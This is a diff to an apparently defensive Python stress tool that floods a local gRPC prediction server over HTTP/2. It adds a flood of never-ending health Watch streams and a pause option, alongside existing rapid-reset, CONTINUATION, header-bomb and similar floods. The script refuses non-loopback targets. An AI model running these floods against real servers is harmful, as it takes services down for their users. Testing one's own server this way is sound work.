@@ -10,6 +10,7 @@ from http2 import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEA
 
 PREDICT = b"/maneuver.v1.PredictionService/Predict"
 HEALTH = b"/grpc.health.v1.Health/Check"
+WATCH = b"/grpc.health.v1.Health/Watch"
 REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 # ServerReflectionRequest {file_containing_symbol: ...}: a question of 40 bytes with an answer of many kilobytes.
 ASK_FOR_CONTRACT = b"\x22\x25maneuver.v1.PredictionService.Predict"
@@ -111,9 +112,15 @@ def open_calls(count):
     return batches(count // 20, lambda i: frame(HEADERS, END_HEADERS, stream(i), call_headers(HEALTH)))
 
 
+def watches(count):
+    """Watches of the health, as many as one connection may have: they never end by themselves."""
+    return batches(count // 20, lambda i: frame(HEADERS, END_HEADERS, stream(i), call_headers(WATCH))
+                   + frame(DATA, END_STREAM, stream(i), message(b"")))
+
+
 FLOODS = {flood.__name__.replace("_", "-"): flood for flood in (
     ping, settings, rapid_reset, continuation, empty_continuation, header_size, header_bomb, windows, priority, empty_data,
-    half_messages, open_calls)}
+    half_messages, open_calls, watches)}
 UNREAD = ("ping", "settings", "windows")
 
 
@@ -137,6 +144,7 @@ def attack(options):
             finished.append(connection)
         else:
             live.append((connection, flood))
+            time.sleep(options.pause)
     finished += [connection for connection, _ in live]
     if options.name in UNREAD:
         time.sleep(max(0, end - time.monotonic()))
@@ -208,6 +216,7 @@ def main():
     parser.add_argument("--frames", type=int, default=20000, help="at most, on each connection")
     parser.add_argument("--seconds", type=float, default=3, help="until all connections are closed")
     parser.add_argument("--connections", type=int, default=1)
+    parser.add_argument("--pause", type=float, default=0, help="seconds after each batch of 64 frames or calls")
     options = parser.parse_args()
     if not (options.address.startswith("127.") and options.source.startswith("127.")):
         parser.error("only this machine's loopback may be attacked")
